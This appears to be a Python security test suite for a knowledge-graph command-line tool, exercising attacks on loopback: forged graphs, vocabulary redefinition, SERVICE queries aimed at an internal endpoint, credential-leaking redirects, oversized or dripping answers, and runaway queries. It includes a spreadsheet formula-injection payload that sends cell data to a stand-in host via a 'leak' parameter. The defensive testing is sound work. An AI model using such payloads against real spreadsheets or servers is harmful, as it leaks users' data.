"""Nobody gets in, nothing gets forged (issue 15): each attack tried as an attacker would, on loopback.

Each test is one case of a kind: a source writing another graph, a source redefining the vocabulary,
conflicting types, federated queries, runaway queries, leaking credentials, slow or huge answers,
concurrent builds, leftovers, formula injection, tracebacks, and graphs of deleted sources.
"""

from __future__ import annotations

import contextlib
import http.server
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from conftest import ctrl_c_default
from kg.cli import app
from kg.query.http import HttpClient, RemoteError, RemoteTimeout, is_loopback
from kg.query.stores import RemoteStore

REPO = Path(__file__).resolve().parents[1]
runner = CliRunner()

PREFIXES = """\
@prefix kg: <https://w3id.org/samverkan/def#> .
@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
@prefix owl: <http://www.w3.org/2002/07/owl#> .
@prefix dcterms: <http://purl.org/dc/terms/> .
@prefix schema: <https://schema.org/> .
@prefix xsd: <http://www.w3.org/2001/XMLSchema#> .
@prefix mun: <https://w3id.org/samverkan/id/municipality/> .
@prefix ini: <https://w3id.org/samverkan/id/initiative/> .
@prefix o: <https://w3id.org/samverkan/id/org/> .
@prefix person: <https://w3id.org/samverkan/id/person/> .
"""


def document(stem: str) -> str:
    return f"""
<https://w3id.org/samverkan/id/source/{stem}> a kg:SourceDocument ;
    dcterms:identifier "{stem}" ; dcterms:title "Test document"@en ; dcterms:language "en" ;
    dcterms:publisher mun:se-2521 .
"""


VALID = (
    PREFIXES
    + document("t1")
    + """
ini:test a kg:Project ; rdfs:label "Testprojekt"@sv ; schema:startDate "2024-01-01"^^xsd:date .
mun:se-2521 kg:leads ini:test .
"""
)


@pytest.fixture
def data_dir(tmp_path: Path, small_reference: Path) -> Path:
    """A data folder with the shipped reference data (the municipalities the tests name) and one valid source."""
    data = tmp_path / "data"
    shutil.copytree(small_reference, data / "reference")
    (data / "sources").mkdir()
    (data / "sources" / "t1.ttl").write_text(VALID, encoding="utf-8")
    return data


def run(*args: str):
    return runner.invoke(app, list(args))


ENGINES = ["rdflib", "oxigraph"]


def build(data: Path, out: Path | None, engine: str):
    if out is None:
        return run("validate", str(data), "--engine", engine)
    return run("build", "--data", str(data), "--out", str(out), "--engine", engine)


# ------------------------------------------------------------------ 1. a source writes only its own graph


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize(
    "graph", ["https://w3id.org/samverkan/id/source/t1", "https://w3id.org/samverkan/id/graph/ontology"]
)
def test_a_source_cannot_write_another_graph(data_dir, tmp_path, engine, graph):
    forged = data_dir / "sources" / "t2.trig"
    forged.write_text(
        PREFIXES
        + "<https://w3id.org/samverkan/id/source/t2> {"
        + document("t2")
        + "}\n"
        + f'<{graph}> {{ o:forged a kg:Company ; rdfs:label "Forged AB"@sv . '
        + "kg:Municipality rdfs:subClassOf kg:Initiative . }\n",
        encoding="utf-8",
    )
    result = build(data_dir, tmp_path / "out", engine)
    assert result.exit_code == 2, result.output
    assert f"{forged}: names the graph <{graph}>" in result.output
    assert "may write only its own graph <https://w3id.org/samverkan/id/source/t2>" in result.output
    assert not (tmp_path / "out" / "graph.trig").exists()


@pytest.mark.parametrize("engine", ENGINES)
def test_a_source_may_name_its_own_graph(data_dir, tmp_path, engine):
    (data_dir / "sources" / "t2.trig").write_text(
        PREFIXES + "<https://w3id.org/samverkan/id/source/t2> {" + document("t2") + "}\n", encoding="utf-8"
    )
    result = build(data_dir, tmp_path / "out", engine)
    assert result.exit_code == 0, result.output


# ------------------------------------------------------------------ 2. sources cannot redefine the vocabulary


def report_key(report):
    return sorted(
        (r.severity, r.focus or "", r.path or "", r.message, r.value or "", tuple(r.files), r.focus_label or "")
        for r in report.results
    )


def both_reports(data: Path):
    from kg.build import build as run_build

    reports = [run_build(data, None, engine=engine).report for engine in ENGINES]
    assert report_key(reports[0]) == report_key(reports[1])
    return reports[0]


def test_a_source_cannot_redefine_a_class_to_hide_a_violation(data_dir):
    src = data_dir / "sources" / "t1.ttl"
    src.write_text(VALID + "\nmun:se-2521 kg:participatesIn mun:se-2505 .\n", encoding="utf-8")
    report = both_reports(data_dir)
    assert [r.message for r in report.results if r.severity == "Violation"] == [
        "kg:participatesIn must point to a kg:Initiative"
    ]
    src.write_text(
        VALID + "\nmun:se-2521 kg:participatesIn mun:se-2505 .\nkg:Municipality rdfs:subClassOf kg:Initiative .\n",
        encoding="utf-8",
    )
    report = both_reports(data_dir)
    assert not report.conforms
    (hit,) = [r for r in report.results if r.shape == "kg.validate:vocabulary"]
    assert hit.message.startswith(
        "a data file may not define or change vocabulary: kg:Municipality rdfs:subClassOf kg:Initiative"
    )
    assert hit.files == [str(src)] and hit.focus == "https://w3id.org/samverkan/def#Municipality"
    for engine in ENGINES:
        result = build(data_dir, None, engine)
        assert result.exit_code == 1
        assert "kg:Municipality rdfs:subClassOf kg:Initiative" in result.output


@pytest.mark.parametrize(
    "statement",
    [
        "<urn:my:Pilot> rdfs:subClassOf kg:Project .",  # a vocabulary of its own, below ours
        'kg:Municipality rdfs:label "initiative"@en .',  # changing a term of ours
        "o:thing a owl:Class .",  # declaring a class
        "<http://xmlns.com/foaf/0.1/Person> owl:equivalentClass kg:Initiative .",  # an axiom on a reused term
        "kg:leads rdfs:domain kg:Person .",
    ],
)
def test_no_vocabulary_statement_is_accepted_from_a_source(data_dir, statement):
    (data_dir / "sources" / "t1.ttl").write_text(VALID + "\n" + statement + "\n", encoding="utf-8")
    report = both_reports(data_dir)
    assert not report.conforms
    assert [r.shape for r in report.results if r.severity == "Violation"] == ["kg.validate:vocabulary"]


def test_the_reference_data_cannot_redefine_the_vocabulary_either(data_dir):
    with (data_dir / "reference" / "areas.ttl").open("a", encoding="utf-8") as handle:
        handle.write("\n<https://w3id.org/samverkan/def#Person> <http://www.w3.org/2000/01/rdf-schema#subClassOf> "
                     "<https://w3id.org/samverkan/def#Initiative> .\n")  # fmt: skip
    report = both_reports(data_dir)
    (hit,) = [r for r in report.results if r.severity == "Violation"]
    assert "kg:Person rdfs:subClassOf kg:Initiative" in hit.message
    assert hit.files == sorted(str(p) for p in (data_dir / "reference").glob("*.ttl"))


# ------------------------------------------------------------------ 3. conflicting types and untyped nodes


def test_conflicting_types_are_a_violation(data_dir):
    (data_dir / "sources" / "t1.ttl").write_text(VALID + "\nmun:se-2521 a kg:Person .\n", encoding="utf-8")
    report = both_reports(data_dir)
    hits = [r for r in report.results if r.severity == "Violation"]
    assert [(r.focus, r.message) for r in hits] == [
        (
            "https://w3id.org/samverkan/id/municipality/se-2521",
            "cannot be both a person and an organisation: the ontology declares them disjoint",
        )
    ]
    assert hits[0].focus_label == "Pajala"


def test_an_initiative_that_is_also_a_post_is_a_violation(data_dir):
    (data_dir / "sources" / "t1.ttl").write_text(VALID + "\nini:test a kg:Post .\n", encoding="utf-8")
    report = both_reports(data_dir)
    assert "cannot be both an initiative and a post: the ontology declares them disjoint" in {
        r.message for r in report.results if r.severity == "Violation"
    }


@pytest.mark.parametrize("typed", ["", "o:ghost a <urn:my:Thing> .", "o:ghost a <http://xmlns.com/foaf/0.1/Agent> ."])
def test_untyped_nodes_in_relations_are_violations(data_dir, typed):
    src = data_dir / "sources" / "t1.ttl"
    src.write_text(VALID + "\no:ghost kg:participatesIn ini:test .\n" + typed + "\n", encoding="utf-8")
    report = both_reports(data_dir)
    (hit,) = [r for r in report.results if r.severity == "Violation"]
    assert hit.focus == "https://w3id.org/samverkan/id/org/ghost"
    assert hit.message.startswith("takes part in kg:participatesIn but has no rdf:type")
    assert hit.files == [str(src)]


def test_the_shapes_check_exactly_the_disjoint_classes_of_the_ontology():
    from itertools import combinations

    from rdflib import Graph
    from rdflib.collection import Collection
    from rdflib.namespace import OWL, RDF, RDFS

    from kg.core import resources
    from kg.core.namespaces import SH

    ontology = Graph()
    for path in resources.ontology_files():
        ontology.parse(path)
    declared = set()
    for group in ontology.subjects(RDF.type, OWL.AllDisjointClasses):
        members = list(Collection(ontology, ontology.value(group, OWL.members)))
        declared |= {frozenset(pair) for pair in combinations(members, 2)}
    assert len(declared) == 28
    shapes = Graph().parse(resources.shapes_file())
    checked = {
        frozenset((target, cls))
        for shape in shapes.subjects(SH["not"], None)
        for target in shapes.objects(shape, SH.targetClass)
        for negated in shapes.objects(shape, SH["not"])
        for cls in shapes.objects(negated, SH["class"])
    }
    assert declared <= checked
    # no class of the ontology lies below two disjoint classes (the shapes compare two types of a node)
    tops = {c for pair in declared for c in pair}
    for cls in set(ontology.subjects(RDF.type, OWL.Class)):
        above = set(ontology.transitive_objects(cls, RDFS.subClassOf)) & tops
        assert len(above) <= 1, (cls, above)


# ------------------------------------------------------------------ 12. one-line errors, never tracebacks


def one_line_error(result, *needles: str) -> str:
    assert isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code == 2, result.output
    text = result.output.strip()
    assert "\n" not in text and text.startswith("error: "), text
    assert "Traceback" not in text and "backtrace" not in text
    for needle in needles:
        assert needle in text, text
    return text


@pytest.mark.parametrize("engine", [*ENGINES, "auto"])
def test_an_iri_with_a_space(data_dir, tmp_path, engine):
    src = data_dir / "sources" / "t1.ttl"
    src.write_text(VALID + "\nmun:se-2521 kg:memberOf <https://w3id.org/samverkan/id/org/a b> .\n", encoding="utf-8")
    line = len((VALID + "\n").splitlines()) + 1
    text = one_line_error(build(data_dir, tmp_path / "out", engine), f"{src}:{line}")
    assert "IRI" in text


@pytest.mark.parametrize("engine", [*ENGINES, "auto"])
@pytest.mark.parametrize("target", ["missing.ttl", "loop.ttl"])
def test_a_dangling_symlink_or_a_loop_in_the_data_folder(data_dir, tmp_path, engine, target):
    link = data_dir / "sources" / "loop.ttl"
    link.symlink_to(data_dir / "sources" / target)
    one_line_error(build(data_dir, tmp_path / "out", engine), f"{link}: broken symbolic link")


@pytest.mark.parametrize("engine", [*ENGINES, "auto"])
def test_a_source_file_name_with_a_space(data_dir, tmp_path, engine):
    src = data_dir / "sources" / "my file.ttl"
    src.write_text(PREFIXES + document("my file"), encoding="utf-8")
    one_line_error(build(data_dir, tmp_path / "out", engine), f"{src}: the file name 'my file' names the graph IRI")


def test_an_entity_parameter_that_is_a_malformed_iri(built):
    result = run("query", "entity", "-p", "entity=http://a b", "--graph", str(built.output))
    one_line_error(result, "'http://a b' is not a valid IRI")


@pytest.mark.parametrize("engine", ENGINES)
def test_out_is_a_file_or_cannot_be_written(data_dir, tmp_path, engine):
    afile = tmp_path / "afile"
    afile.write_text("keep me", encoding="utf-8")
    one_line_error(build(data_dir, afile, engine), f"{afile}: the output folder is a file")
    one_line_error(build(data_dir, afile / "sub", engine), f"{afile}: the output folder is a file")
    assert afile.read_text(encoding="utf-8") == "keep me"
    one_line_error(build(data_dir, Path("/proc/self/kg-out"), engine), "/proc/self")  # unwritable even for root


def test_graph_that_is_not_a_graph_file():
    one_line_error(run("query", "people", "--graph", "/etc/passwd"), "/etc/passwd", "not a TriG graph file")
    one_line_error(run("analyze", "--graph", "/etc/passwd"), "/etc/passwd", "not a TriG graph file")


def test_a_port_out_of_range():
    one_line_error(run("serve", "--port", "99999"), "--port 99999")


def test_serve_a_file_that_is_not_rdf(tmp_path):
    notes = tmp_path / "notes.trig"
    notes.write_text("these are not triples\n", encoding="utf-8")
    one_line_error(run("serve", "--graph", str(notes), "--port", "1"), str(notes), "not a TriG graph file")


# ------------------------------------------------------------------ 8. concurrent runs, 9. leftovers of dead builds


def kg_process(*args: str, cwd: Path | None = None, env: dict | None = None) -> subprocess.Popen:
    return subprocess.Popen(
        [sys.executable, "-m", "kg", *args],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        cwd=cwd,
        env={**os.environ, "PYTHONUNBUFFERED": "1", **(env or {})},
        preexec_fn=ctrl_c_default,  # the served fixture stops it with SIGINT
    )


def finish(process: subprocess.Popen, timeout: float = 300) -> tuple[int, str, str]:
    try:
        out, err = process.communicate(timeout=timeout)
    finally:
        if process.poll() is None:
            process.kill()
            process.communicate()
    return process.returncode, out, err


BUILT = ["graph.trig", "labels.sqlite", "manifest.json", "manifest.sqlite", "store"]  # what a build leaves


def test_five_concurrent_oxigraph_builds_of_one_folder(data_dir, tmp_path):
    out = tmp_path / "out"
    processes = [kg_process("build", "--data", str(data_dir), "--out", str(out), "--engine", "oxigraph")
                 for _ in range(5)]  # fmt: skip
    results = [finish(p) for p in processes]
    for code, _, stderr in results:
        assert code == 0, stderr
        assert "Traceback" not in stderr and "LOCK:" not in stderr and "Corruption" not in stderr
    assert any("waiting: another kg process" in r[2] for r in results)  # at least one had to wait
    assert sorted(p.name for p in out.iterdir()) == BUILT
    import pyoxigraph as ox

    store = ox.Store.read_only(str(out / "store"))
    assert len(store) == len(_trig_store(out / "graph.trig")) > 1000


def _trig_store(path: Path):
    import pyoxigraph as ox

    store = ox.Store()
    store.bulk_load(path=str(path), format=ox.RdfFormat.TRIG)
    return store


def test_concurrent_first_queries_build_once_and_agree(tmp_path):
    shutil.copytree(REPO / "data", tmp_path / "data")
    processes = [kg_process("query", "members", "-p", "association=Region 10", "-f", "csv", cwd=tmp_path)
                 for _ in range(4)]  # fmt: skip
    results = [finish(p) for p in processes]
    assert [r[0] for r in results] == [0, 0, 0, 0], [r[2] for r in results]
    assert len({r[1] for r in results}) == 1 and results[0][1].count("\n") == 11
    assert (tmp_path / "build" / "graph.trig").is_file()


def test_a_second_build_waits_with_a_message_or_gives_up_cleanly(data_dir, tmp_path):
    from kg.core.locking import locked

    out = tmp_path / "out"
    with locked(out):
        waiting = kg_process("build", "--data", str(data_dir), "--out", str(out), "--engine", "rdflib")
        line = waiting.stderr.readline()
        assert line.startswith("waiting: another kg process (pid ") and str(out) in line
        assert waiting.poll() is None
        impatient = kg_process("build", "--data", str(data_dir), "--out", str(out), env={"KG_LOCK_TIMEOUT": "0.5"})
        code, _, stderr = finish(impatient)
        assert code == 2 and "is still writing this folder after 0.5 s" in stderr
    code, _, stderr = finish(waiting)
    assert code == 0, stderr
    assert (out / "graph.trig").is_file() and not (out / ".lock").exists()


def test_the_next_build_cleans_what_a_killed_build_left(tmp_path):
    from kg.synth import synthesize

    data = tmp_path / "data"
    synthesize(30_000, data, seed=3)
    out = tmp_path / "out"
    process = kg_process("build", "--data", str(data), "--out", str(out), "--engine", "oxigraph")
    deadline = time.monotonic() + 120
    while not list(out.glob(".store-*")):  # the build's temporary store exists: kill the build now
        assert process.poll() is None and time.monotonic() < deadline, process.communicate()
        time.sleep(0.02)
    process.send_signal(signal.SIGKILL)
    process.communicate()
    (out / ".graph.trig.dead1.tmp").write_text("half a graph", encoding="utf-8")  # as a killed dump leaves it
    (out / ".manifest.json.dead2.tmp").write_text("{", encoding="utf-8")
    (out / ".manifest.sqlite.dead3.tmp").write_bytes(b"half a database")
    assert list(out.glob(".store-*")) and not (out / "graph.trig").exists()
    code, _, stderr = finish(kg_process("build", "--data", str(data), "--out", str(out), "--engine", "oxigraph"))
    assert code == 0, stderr
    assert sorted(p.name for p in out.iterdir()) == BUILT


# ------------------------------------------------------------------ 11. formula injection


FORMULA = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Pajala")'


@pytest.fixture
def formula_data(data_dir):
    with (data_dir / "sources" / "t1.ttl").open("a", encoding="utf-8") as handle:
        label = FORMULA.replace('"', '\\"')
        handle.write(f'\no:evil a kg:Company ; rdfs:label "{label}"@sv ; kg:participatesIn ini:test .\n')
        handle.write('person:at a kg:Person ; rdfs:label "@SUM(1+1)"@sv ; kg:participatesIn ini:test .\n')
    out = data_dir.parent / "formula-build"
    assert build(data_dir, out, "rdflib").exit_code == 0
    return out / "graph.trig"


@pytest.mark.parametrize("fmt", ["csv", "tsv", "md"])
def test_query_output_for_spreadsheets_neutralises_formulas(formula_data, tmp_path, fmt):
    query = 'SELECT ?l (-1.5 AS ?n) WHERE { ?x rdfs:label ?l FILTER(STRSTARTS(?l, "=") || STRSTARTS(?l, "@")) }'
    result = run("query", "-e", query, "-f", fmt, "--graph", str(formula_data), "-o", str(tmp_path / f"out.{fmt}"))
    assert result.exit_code == 0, result.output
    text = (tmp_path / f"out.{fmt}").read_text(encoding="utf-8")
    import csv
    import io

    if fmt == "md":
        cells = [c.strip() for line in text.splitlines()[2:] for c in line.strip("|").split(" | ")]
    else:
        cells = [c for row in csv.reader(io.StringIO(text), delimiter="," if fmt == "csv" else "\t") for c in row]
    assert "'" + FORMULA in cells and "'@SUM(1+1)" in cells
    assert "-1.5" in cells  # a number is no formula
    assert not any(c.startswith(("=", "@", "+")) for c in cells)


def test_analyze_csv_neutralises_formulas(formula_data):
    result = run("analyze", "-f", "csv", "--graph", str(formula_data))
    assert result.exit_code == 0, result.output
    assert "'" + FORMULA.replace('"', '""') in result.stdout
    assert "\n=" not in result.stdout and ",=" not in result.stdout and ",@" not in result.stdout


def test_json_keeps_the_value_as_it_is(formula_data):
    query = 'SELECT ?l WHERE { ?x rdfs:label ?l FILTER(STRSTARTS(?l, "=")) }'
    result = run("query", "-e", query, "-f", "json", "--graph", str(formula_data))
    assert result.exit_code == 0, result.output
    import json

    assert json.loads(result.stdout)["results"]["bindings"][0]["l"]["value"] == FORMULA


# ------------------------------------------------------------------ 6. credentials, 7. slow or huge answers


@pytest.fixture(autouse=True)
def no_remote_addresses(monkeypatch):
    """Refuse any connection from this process to an address outside loopback."""
    import socket

    original = socket.socket.connect

    def connect(sock, address):
        host = address[0] if isinstance(address, tuple) else None
        if host is not None and not is_loopback(host):
            raise AssertionError(f"a test tried to reach {host}")
        return original(sock, address)

    monkeypatch.setattr(socket.socket, "connect", connect)


@pytest.fixture
def no_credentials(monkeypatch, tmp_path):
    monkeypatch.delenv("KG_SPARQL_USER", raising=False)
    monkeypatch.delenv("KG_SPARQL_PASSWORD", raising=False)
    monkeypatch.setenv("NETRC", str(tmp_path / "no-netrc"))


class Behaviour(http.server.BaseHTTPRequestHandler):
    """A loopback HTTP server whose answer the test chooses; it records what it received."""

    seen: list
    answer: object  # a callable taking the handler

    def _any(self) -> None:
        type(self).seen.append((self.command, self.path, dict(self.headers)))
        length = int(self.headers.get("Content-Length") or 0)
        self.rfile.read(length)
        type(self).answer(self)

    do_GET = do_POST = do_PUT = _any

    def log_message(self, *args) -> None:
        pass


@contextlib.contextmanager
def http_server(answer, host: str = "127.0.0.1"):
    handler = type("Handler", (Behaviour,), {"seen": [], "answer": staticmethod(answer)})
    httpd = http.server.ThreadingHTTPServer((host, 0), handler)
    httpd.daemon_threads = True
    thread = threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield handler, f"http://{host}:{httpd.server_address[1]}/query"
    finally:
        httpd.shutdown()
        httpd.server_close()


def sparql_json(handler) -> None:
    body = b'{"head": {"vars": ["n"]}, "results": {"bindings": [{"n": {"type": "literal", "value": "1"}}]}}'
    handler.send_response(200)
    handler.send_header("Content-Type", "application/sparql-results+json")
    handler.send_header("Content-Length", str(len(body)))
    handler.end_headers()
    handler.wfile.write(body)


@pytest.mark.parametrize("command", [["push"], ["query", "people"], ["analyze"]])
@pytest.mark.parametrize("url", ["http://alice:s3cret@127.0.0.1:9/query", "ftp://alice:s3cret@127.0.0.1/x"])
def test_credentials_in_a_url_are_refused_and_never_printed(command, url):
    result = run(*command, "--endpoint", url)
    assert result.exit_code == 2, result.output
    assert "s3cret" not in result.output and "alice" not in result.output
    assert "error:" in result.output


def test_a_redirect_to_another_host_gets_no_credentials_and_no_trust(monkeypatch, no_credentials):
    monkeypatch.setenv("KG_SPARQL_USER", "alice")
    monkeypatch.setenv("KG_SPARQL_PASSWORD", "s3cret-pw")
    with http_server(sparql_json, host="127.0.0.2") as (attacker, elsewhere):

        def redirect(handler) -> None:
            handler.send_response(302)
            handler.send_header("Location", elsewhere)
            handler.send_header("Content-Length", "0")
            handler.end_headers()

        with http_server(redirect) as (configured, url):
            with pytest.raises(RemoteError, match="redirected to another host") as caught:
                RemoteStore(url, union_default_graph=False).select("SELECT ?n WHERE {}")
            assert "s3cret" not in str(caught.value)
            result = run("query", "people", "--endpoint", url)
            assert result.exit_code == 2 and "redirected to another host" in result.output
            assert "s3cret" not in result.output
            assert configured.seen and all(h.get("Authorization") for _, _, h in configured.seen)
    assert attacker.seen == []  # never reached: neither the credentials nor the query went there


def test_environment_credentials_go_only_to_the_configured_host(monkeypatch, no_credentials):
    monkeypatch.setenv("KG_SPARQL_USER", "alice")
    monkeypatch.setenv("KG_SPARQL_PASSWORD", "s3cret-pw")
    with http_server(sparql_json) as (home, url), http_server(sparql_json, host="127.0.0.2") as (other, other_url):
        client = HttpClient(timeout=5, home=url)
        client.request("GET", url)
        client.request("GET", other_url)  # e.g. a --store-url on another host
    assert home.seen[0][2].get("Authorization")
    assert "Authorization" not in other.seen[0][2]


def drip(handler) -> None:
    """Headers at once, then one byte every 0.2 s, for ever (until the client goes away)."""
    handler.send_response(200)
    handler.send_header("Content-Type", "application/sparql-results+json")
    handler.end_headers()
    try:
        for _ in range(10_000):
            handler.wfile.write(b" ")
            handler.wfile.flush()
            time.sleep(0.2)
    except OSError:
        pass


def test_a_dripping_server_is_cut_off_at_the_total_deadline(no_credentials):
    with http_server(drip) as (_, url):
        started = time.monotonic()
        with pytest.raises(RemoteTimeout, match=r"did not answer within 1\.5 s"):
            RemoteStore(url, timeout=1.5, union_default_graph=False).select("SELECT * WHERE { ?s ?p ?o }")
        assert time.monotonic() - started < 4
        started = time.monotonic()
        result = run("analyze", "--endpoint", url, "--http-timeout", "1.5")
        assert result.exit_code in (2, 3) and "did not answer within 1.5 s" in result.output
        assert time.monotonic() - started < 8


@pytest.mark.parametrize("with_length", [True, False])
def test_an_answer_over_the_cap_is_refused(monkeypatch, no_credentials, with_length):
    monkeypatch.setenv("KG_HTTP_MAX_MB", "1")

    def huge(handler) -> None:
        body = b" " * 3_000_000
        handler.send_response(200)
        handler.send_header("Content-Type", "application/sparql-results+json")
        if with_length:
            handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        with contextlib.suppress(OSError):
            handler.wfile.write(body)

    with http_server(huge) as (_, url), pytest.raises(RemoteError, match="over the cap of 1,000,000 bytes"):
        RemoteStore(url, timeout=10, union_default_graph=False).select("SELECT * WHERE { ?s ?p ?o }")


# ------------------------------------------------------------------ 4. federated queries, 5. server-side timeout


def trap_query(url: str, escaped: bool = False) -> str:
    keyword = "\\u0053ERVICE" if escaped else "service"
    return f"SELECT * WHERE {{ {keyword} <{url.replace('/query', '/internal-admin')}> {{ ?s ?p ?o }} }}"


@pytest.mark.parametrize("escaped", [False, True])
def test_kg_query_refuses_service_unless_allowed(built, no_credentials, escaped):
    with http_server(sparql_json) as (trap, url):
        result = run("query", "-e", trap_query(url, escaped), "--graph", str(built.output))
        one_line_error(result, "federated queries (SERVICE) are turned off: --allow-service")
        assert trap.seen == []
        result = run("query", "-e", trap_query(url), "--graph", str(built.output), "--allow-service")
        assert result.exit_code == 0, result.output
        assert trap.seen  # turned on explicitly: the engine did call the service


def test_the_notebook_refuses_service_too(built, no_credentials):
    import kg

    g = kg.load(built.output)
    with http_server(sparql_json) as (trap, url), pytest.raises(Exception, match="SERVICE"):
        g.query(trap_query(url))
    assert trap.seen == []


@pytest.fixture
def served(built, tmp_path):
    """``kg serve`` of the built graph on a free loopback port with a 2 s query timeout; always stopped."""
    from kg.server.oxigraph import free_port

    port = free_port()
    args = ["--port", str(port), "--graph", str(built.output), "--timeout", "2", "--lang", "en"]
    process = kg_process("serve", *args, cwd=tmp_path)
    try:
        lines: list[str] = []
        deadline = time.monotonic() + 60
        while not any(line.startswith("Press Ctrl-C") for line in lines):
            assert time.monotonic() < deadline and process.poll() is None, [*lines, process.stderr.read()]
            lines.append(process.stdout.readline())
        yield process, f"http://127.0.0.1:{port}/query", lines
    finally:
        process.send_signal(signal.SIGINT)
        try:
            process.wait(15)
        finally:
            if process.poll() is None:
                process.kill()
                process.wait()


def test_kg_serve_refuses_service_in_every_form(served, no_credentials):
    import urllib.parse

    _, url, lines = served
    assert "limits:    queries stop after 2 s; federated queries (SERVICE) refused\n" in lines
    store = RemoteStore(url)
    assert store.ask("ASK { ?m a kg:Municipality }")
    with http_server(sparql_json) as (trap, trap_url):
        for escaped in (False, True):
            with pytest.raises(RemoteError, match=r"HTTP 403.*SERVICE.*--allow-service"):
                store.select(trap_query(trap_url, escaped))
        client = HttpClient(timeout=10)
        get = url + "?" + urllib.parse.urlencode({"query": trap_query(trap_url)})
        form = urllib.parse.urlencode({"query": trap_query(trap_url)}).encode()
        with pytest.raises(RemoteError, match="403"):
            client.request("GET", get)
        with pytest.raises(RemoteError, match="403"):
            client.request("POST", url, form, {"Content-Type": "application/x-www-form-urlencoded"})
        assert trap.seen == []


def _cpu_seconds(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def _oxigraph_children(pid: int) -> set[int]:
    children = []
    for task in Path(f"/proc/{pid}/task").iterdir():  # children of every thread of the process
        with contextlib.suppress(OSError):
            children += (task / "children").read_text().split()
    found = set()
    for child in children:
        with contextlib.suppress(OSError):
            if "oxigraph" in Path(f"/proc/{child}/cmdline").read_text():
                found.add(int(child))
    return found


def _total_cpu(pids: set[int]) -> float:
    total = 0.0
    for pid in pids:
        with contextlib.suppress(OSError):
            total += _cpu_seconds(pid)
    return total


def test_kg_serve_stops_a_runaway_query_on_the_server(served, no_credentials):
    process, url, _lines = served
    before = _oxigraph_children(process.pid)
    assert len(before) >= 2  # a pool of read-only servers behind the gateway
    cartesian = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }"
    started = time.monotonic()
    with pytest.raises(RemoteError, match=r"HTTP 503.*ran longer than 2 s and was stopped"):
        RemoteStore(url, timeout=60).select(cartesian)
    assert time.monotonic() - started < 10  # the server gave up, not the client
    deadline = time.monotonic() + 20
    while len(after := _oxigraph_children(process.pid)) < len(before):
        assert time.monotonic() < deadline, (before, after)
        time.sleep(0.1)
    assert len(before - after) == 1  # its server was killed and replaced
    cpu = _total_cpu(after)
    time.sleep(3)
    assert _total_cpu(after) - cpu < 0.5  # and no core is busy with the stopped query
    assert RemoteStore(url).ask("ASK { ?m a kg:Municipality }")  # still serving


# ------------------------------------------------------------------ 13. a deleted source leaves the server too


@pytest.fixture
def writable_server(tmp_path, no_credentials):
    from kg.server.oxigraph import OxigraphServer

    log = (tmp_path / "oxigraph.log").open("w")
    server = OxigraphServer(tmp_path / "db", log=log)
    try:
        yield server.start()
    finally:
        try:
            server.stop(grace=5)
        finally:
            server.kill()
            log.close()


def test_push_replace_removes_the_graphs_of_deleted_sources(writable_server, built, curated_data, tmp_path):
    from kg.server.oxigraph import push, server_graphs

    # the curated documents: the two registers would only make both builds four times as long; the
    # first is the session's (fixture ``built``: the curated data, rdflib engine), the second without
    # one of its sources
    data = tmp_path / "data"
    shutil.copytree(curated_data, data)
    second = tmp_path / "second"
    gone = sorted((data / "sources").glob("*.ttl"))[-1]
    gone.unlink()
    assert build(data, second, "rdflib").exit_code == 0
    url = writable_server.query_url
    graph = f"https://w3id.org/samverkan/id/source/{gone.stem}"
    push(Path(built.output), url)
    assert graph in server_graphs(RemoteStore(url))
    unrelated = "https://example.org/graph/kept"  # a graph that is not a source document's: never pruned
    # the analysis graph of an earlier `kg all` pushed before a source changed: the new build has none
    # (a build drops it when a source changes), and the server kept the old clusters (s31 trial, 7)
    analysis = "https://w3id.org/samverkan/id/graph/analysis"
    RemoteStore(url, update_url=writable_server.update_url).update(
        f"INSERT DATA {{ GRAPH <{unrelated}> {{ <urn:a> <urn:b> <urn:c> }} "
        f"GRAPH <{analysis}> {{ <urn:a> <urn:b> 1 }} }}"
    )

    report = push(second / "graph.trig", url, replace=True, prune=False)
    assert graph in server_graphs(RemoteStore(url)) and not report.pruned

    result = run("push", "--endpoint", url, "--graph", str(second / "graph.trig"), "--replace", "--lang", "en")
    assert result.exit_code == 0, result.output
    removed = "the dataset no longer has (a source's or the analysis of an earlier build)"
    assert f"removed:   2 graph(s) {removed}: <{analysis}>, <{graph}>" in result.output
    assert f"untouched: 1 other graph(s) on the server, not in this dataset: <{unrelated}>" in result.output
    on_server = server_graphs(RemoteStore(url))
    assert graph not in on_server and analysis not in on_server and unrelated in on_server
    from kg.server.oxigraph import local_graphs

    assert {g: n for g, n in on_server.items() if g != unrelated} == local_graphs(second / "graph.trig")


# ------------------------------------------------------------------ 10. a notebook timeout stops the work


def test_a_notebook_query_timeout_stops_the_work(built):
    import resource

    import kg
    from kg.query.sparql import QueryTimeout

    def cpu() -> float:
        usage = resource.getrusage(resource.RUSAGE_SELF)  # every thread of this process
        return usage.ru_utime + usage.ru_stime

    g = kg.load(built.output)
    # every municipality of Sweden (290) and Finland (308): the reference data of issue 16
    assert g.query("SELECT (COUNT(*) AS ?n) WHERE { ?m a kg:Municipality }")["n"][0] == 598
    cartesian = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }"
    started = time.monotonic()
    with pytest.raises(QueryTimeout, match="ran longer than 2 s and was stopped"):
        g.query(cartesian, timeout=2)
    assert time.monotonic() - started < 6
    before = cpu()
    time.sleep(2)
    assert cpu() - before < 0.5  # no thread of ours is still computing the product
    assert g.query("ASK { ?m a kg:Municipality }") is True  # and the graph still answers
